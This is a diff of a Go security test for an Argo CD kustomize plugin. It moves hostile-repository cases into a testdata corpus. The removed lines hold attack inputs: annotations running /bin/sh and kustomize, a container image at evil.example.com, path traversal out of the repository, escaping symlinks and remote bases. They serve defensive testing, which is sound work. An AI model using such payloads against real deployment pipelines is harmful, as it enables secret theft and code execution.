@@ -1,175 +1,175 @@
 package argocd
 
 import (
+	"errors"
 	"fmt"
+	"io/fs"
 	"net/http"
 	"net/http/httptest"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 	"sync/atomic"
+	"syscall"
 	"testing"
 	"time"
 
 	"google.golang.org/grpc/status"
+	"sigs.k8s.io/yaml"
 )
 
 // secret is what a hostile repository must not get out of the sidecar.
 const secret = "krm-fn-attack-secret-5f3a"
 
-// attack is a repository built to make the plugin read, write, fetch or
-// run something, and what the plugin must say instead.
+// attack is a repository of testdata/attacks (its README says the format;
+// e2e/attacks_test.go reads the same corpus for krm-fn render and the
+// hooks).
 type attack struct {
-	name  string
-	files map[string]string // relative to the repository; "@link:" + target makes a symbolic link
-	want  string            // the error must contain it
-	// or, where Argo CD itself refuses the repository before the plugin
-	// sees it, this
-	argo string
+	name     string
+	What     string            `json:"what"`
+	Want     string            `json:"want"`
+	Argo     string            `json:"argo"`
+	Paths    []string          `json:"paths"`
+	Links    map[string]string `json:"links"`
+	Fifos    []string          `json:"fifos"`
+	Generate []struct {
+		Path  string `json:"path"`
+		Head  string `json:"head"`
+		Body  string `json:"body"`
+		Tail  string `json:"tail"`
+		Count int    `json:"count"`
+		Bytes int    `json:"bytes"`
+	} `json:"generate"`
 }
 
-// TestPluginResistsHostileRepositories streams repositories that try each
-// known way out through argocd-cmp-server with the project's plugin.yaml.
-// Each must fail with a message naming the file and what it asked for,
-// and afterwards nothing outside the repository was read (the secret is
-// in no answer), written (the outside directory is unchanged), fetched
-// (the loopback server saw no request) or run (no program left its
+func attacks(t *testing.T) []attack {
+	t.Helper()
+	files, err := filepath.Glob(filepath.Join(root, "testdata/attacks/*/attack.yaml"))
+	if err != nil || len(files) == 0 {
+		t.Fatalf("no attacks found: %v", err)
+	}
+	var out []attack
+	for _, f := range files {
+		b, err := os.ReadFile(f)
+		if err != nil {
+			t.Fatal(err)
+		}
+		a := attack{name: filepath.Base(filepath.Dir(f))}
+		if err := yaml.UnmarshalStrict(b, &a); err != nil {
+			t.Fatalf("%s: %v", f, err)
+		}
+		if len(a.Paths) == 0 || slices.Contains(a.Paths, "plugin") {
+			out = append(out, a)
+		}
+	}
+	return out
+}
+
+// setUp lays the attack over repo (a copy of the example), with subst for
+// its placeholders.
+func (a attack) setUp(t *testing.T, repo string, subst *strings.Replacer) {
+	t.Helper()
+	src := filepath.Join(root, "testdata/attacks", a.name, "repo")
+	err := filepath.WalkDir(src, func(path string, d os.DirEntry, err error) error {
+		if errors.Is(err, fs.ErrNotExist) && path == src {
+			return nil // an attack of links alone (git keeps no empty directory)
+		}
+		if err != nil || d.IsDir() {
+			return err
+		}
+		rel, _ := filepath.Rel(src, path)
+		b, err := os.ReadFile(path)
+		if err != nil {
+			return err
+		}
+		writeFile(t, filepath.Join(repo, rel), subst.Replace(string(b)))
+		return nil
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for path, target := range a.Links {
+		p := filepath.Join(repo, path)
+		os.RemoveAll(p)
+		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.Symlink(subst.Replace(target), p); err != nil {
+			t.Fatal(err)
+		}
+	}
+	for _, path := range a.Fifos {
+		if err := syscall.Mkfifo(filepath.Join(repo, path), 0o644); err != nil {
+			t.Skip("no FIFOs here:", err)
+		}
+	}
+	for _, g := range a.Generate {
+		if strings.Contains(g.Path, "{i}") { // count files
+			for i := range g.Count {
+				n := strings.NewReplacer("{i}", fmt.Sprint(i))
+				writeFile(t, filepath.Join(repo, n.Replace(g.Path)), n.Replace(g.Head+g.Body+g.Tail))
+			}
+			continue
+		}
+		var b strings.Builder
+		b.WriteString(g.Head)
+		for i := 0; g.Count > 0 && i < g.Count || g.Bytes > 0 && b.Len() < g.Bytes; i++ {
+			b.WriteString(strings.ReplaceAll(g.Body, "{i}", fmt.Sprint(i)))
+		}
+		b.WriteString(g.Tail)
+		writeFile(t, filepath.Join(repo, g.Path), b.String())
+	}
+}
+
+// TestPluginResistsHostileRepositories streams every repository of
+// testdata/attacks through argocd-cmp-server with the project's
+// plugin.yaml. Each must fail with its message (or render, where it
+// must), and afterwards nothing outside the repository was read (the
+// secret is in no answer), written (the outside directory is unchanged),
+// fetched (the loopback server saw no request) or run (no program left its
 // mark). The example's own overlay still renders (TestPluginRendersOverlay).
 func TestPluginResistsHostileRepositories(t *testing.T) {
 	s := startServer(t)
 	outside := t.TempDir() // the sidecar's files that are not the repository's
 	writeFile(t, filepath.Join(outside, "secret.yaml"), "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: secret, namespace: prd-api}\ndata: {token: "+secret+"}\n")
 	writeFile(t, filepath.Join(outside, "kustomization.yaml"), "resources: [secret.yaml]\n")
-	mark := filepath.Join(outside, "ran")
 	var fetched atomic.Int64
 	web := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
 		fetched.Add(1)
 		fmt.Fprint(w, "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: fetched}\n")
 	}))
 	defer web.Close()
-	escape := strings.Repeat("../", 40) + strings.TrimPrefix(outside, "/")
+	subst := strings.NewReplacer("@OUTSIDE@", outside, "@MARK@", filepath.Join(outside, "ran"), "@WEB@", web.URL,
+		"@ESCAPE@", strings.Repeat("../", 40)+strings.TrimPrefix(outside, "/"))
 
-	transformer := func(annotation string) string {
-		return "apiVersion: evil.example.com/v1\nkind: Reader\nmetadata:\n  name: evil\n  annotations:\n    config.kubernetes.io/function: |\n" +
-			indent(annotation, "      ")
-	}
-	overlay := func(extra string) string {
-		return "resources:\n- ../../bases\n" + extra + "transformers:\n- platform.yaml\n"
-	}
-	for _, a := range []attack{{
-		name: "exec kustomize",
-		files: map[string]string{
-			"overlays/prd/evil.yaml":          transformer("exec:\n  path: kustomize\n  args: [build, " + outside + "]\n"),
-			"overlays/prd/kustomization.yaml": "resources:\n- ../../bases\ntransformers:\n- evil.yaml\n- platform.yaml\n",
-		},
-		want: `overlays/prd/evil.yaml: Reader evil: the annotation config.kubernetes.io/function asks to run the program "kustomize"`,
-	}, {
-		name: "exec a shell with a committed script",
-		files: map[string]string{
-			"overlays/prd/evil.sh":            "#!/bin/sh\ntouch " + mark + "\n",
-			"overlays/prd/evil.yaml":          transformer("exec:\n  path: /bin/sh\n  args: [evil.sh]\n"),
-			"overlays/prd/kustomization.yaml": "resources:\n- ../../bases\ntransformers:\n- evil.yaml\n- platform.yaml\n",
-		},
-		want: `asks to run the program "/bin/sh"`,
-	}, {
-		name: "exec krm-fn install, planting a binary",
-		files: map[string]string{
-			"overlays/prd/evil.yaml":          transformer("exec:\n  path: krm-fn\n  args: [install, " + outside + "/planted]\n"),
-			"overlays/prd/kustomization.yaml": "resources:\n- ../../bases\ntransformers:\n- evil.yaml\n- platform.yaml\n",
-		},
-		want: `asks to run the program "krm-fn"`,
-	}, {
-		name: "a container function",
-		files: map[string]string{
-			"overlays/prd/evil.yaml":          transformer("container:\n  image: evil.example.com/reader\n  network: true\n"),
-			"overlays/prd/kustomization.yaml": "resources:\n- ../../bases\ntransformers:\n- evil.yaml\n- platform.yaml\n",
-		},
-		want: `asks to run the container image "evil.example.com/reader"`,
-	}, {
-		name: "a relative path out of the repository",
-		files: map[string]string{
-			"overlays/prd/kustomization.yaml": overlay("- " + escape + "/secret.yaml\n"),
-		},
-		want: "is outside the repository",
-	}, {
-		name: "a relative base out of the repository",
-		files: map[string]string{
-			"overlays/prd/kustomization.yaml": overlay("- " + escape + "\n"),
-		},
-		want: "is outside the repository",
-	}, {
-		name: "a patch file out of the repository",
-		files: map[string]string{
-			"overlays/prd/kustomization.yaml": overlay("patches:\n- path: " + escape + "/secret.yaml\n"),
-		},
-		want: "is outside the repository",
-	}, {
-		name: "a symbolic link out of the repository",
-		files: map[string]string{
-			"bases/leak":                      "@link:" + strings.Repeat("../", 40) + strings.TrimPrefix(outside, "/"),
-			"overlays/prd/kustomization.yaml": overlay("- ../../bases/leak\n"),
-		},
-		want: "outside the repository",
-		argo: "illegal filepath in symlink", // argocd-cmp-server refuses to unpack it
-	}, {
-		name: "a remote resource",
-		files: map[string]string{
-			"overlays/prd/kustomization.yaml": overlay("- " + web.URL + "/evil.yaml\n"),
-		},
-		want: `"` + web.URL + `/evil.yaml" is remote`,
-	}, {
-		name: "a remote base",
-		files: map[string]string{
-			"overlays/prd/kustomization.yaml": overlay("- github.com/evil/repo//base?ref=main\n"),
-		},
-		want: `"github.com/evil/repo//base?ref=main" is remote`,
-	}, {
-		name: "helm",
-		files: map[string]string{
-			"overlays/prd/kustomization.yaml": overlay("helmCharts:\n- name: evil\n  repo: " + web.URL + "\n  version: 1.0.0\n"),
-		},
-		want: "helmCharts needs Helm, which this build does not run",
-	}, {
-		name: "krm-fn's own kind naming another program and arguments",
-		files: map[string]string{
-			// Not the last transformer: kustomize runs krm-fn here, and it
-			// must be the plugin's own, with no arguments.
-			"overlays/prd/platform.yaml":      strings.Replace(readRepoFile(t, "overlays/prd/platform.yaml"), "path: krm-fn", "path: /bin/sh\n        args: [-c, 'touch "+mark+"']", 1),
-			"overlays/prd/labels.yaml":        "apiVersion: builtin\nkind: LabelTransformer\nmetadata: {name: tier}\nlabels: {tier: edge}\nfieldSpecs: [{path: metadata/labels, create: true}]\n",
-			"overlays/prd/kustomization.yaml": "resources:\n- ../../bases\ntransformers:\n- platform.yaml\n- labels.yaml\n",
-		},
-		want: "", // renders, with the plugin's own krm-fn
-	}} {
+	for _, a := range attacks(t) {
 		t.Run(a.name, func(t *testing.T) {
 			repo := example(t)
-			for path, content := range a.files {
-				p := filepath.Join(repo, path)
-				if target, ok := strings.CutPrefix(content, "@link:"); ok {
-					if err := os.Symlink(target, p); err != nil {
-						t.Fatal(err)
-					}
-					continue
-				}
-				if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
-					t.Fatal(err)
-				}
-				writeFile(t, p, content)
-			}
+			a.setUp(t, repo, subst)
+			want := subst.Replace(a.Want)
+			start := time.Now()
 			manifests, err := generate(t, repo, filepath.Join(repo, "overlays", "prd"), "krm-fn", repoServerEnv("overlays/prd"))
 			msg := ""
 			if err != nil {
 				msg = status.Convert(err).Message()
 			}
-			switch {
-			case a.want == "" && err != nil:
-				t.Fatalf("want the overlay rendered, got: %s", msg)
-			case a.want != "" && err == nil:
-				t.Fatalf("the plugin rendered %d manifests, want an error containing %q", len(manifests), a.want)
-			case a.want != "" && !strings.Contains(msg, a.want) && (a.argo == "" || !strings.Contains(s.log.String(), a.argo)):
-				t.Errorf("the error lacks %q:\n%s", a.want, msg)
+			switch { // Errorf: what ran or leaked is checked below whatever happened
+			case want == "" && err != nil:
+				t.Errorf("want the overlay rendered, got: %s", msg)
+			case want != "" && err == nil:
+				t.Errorf("the plugin rendered %d manifests, want an error containing %q", len(manifests), want)
+			case want != "" && a.Argo == "not streamed":
+				// The plugin never sees the attack; the build fails
+				// without the file, which is all this test asks.
+			case want != "" && !strings.Contains(msg, want) && (a.Argo == "" || !strings.Contains(s.log.String(), a.Argo)):
+				t.Errorf("the error lacks %q:\n%s", want, msg)
 			}
-			if a.want != "" && len(manifests) > 0 {
+			if want != "" && len(manifests) > 0 {
 				t.Errorf("an error came with %d manifests", len(manifests))
+			}
+			if d := time.Since(start); d > time.Minute {
+				t.Errorf("the plugin took %s", d)
 			}
 			if strings.Contains(msg+strings.Join(manifests, "\n"), secret) {
 				t.Errorf("the secret outside the repository reached the answer:\n%s%s", msg, strings.Join(manifests, "\n"))
@@ -231,13 +231,4 @@ func TestPluginDiscoveryEndsOnLinkLoops(t *testing.T) {
 func indent(s, prefix string) string {
 	lines := strings.Split(strings.TrimSuffix(s, "\n"), "\n")
 	return prefix + strings.Join(lines, "\n"+prefix) + "\n"
-}
-
-func readRepoFile(t *testing.T, path string) string {
-	t.Helper()
-	b, err := os.ReadFile(filepath.Join(root, path))
-	if err != nil {
-		t.Fatal(err)
-	}
-	return string(b)
 }
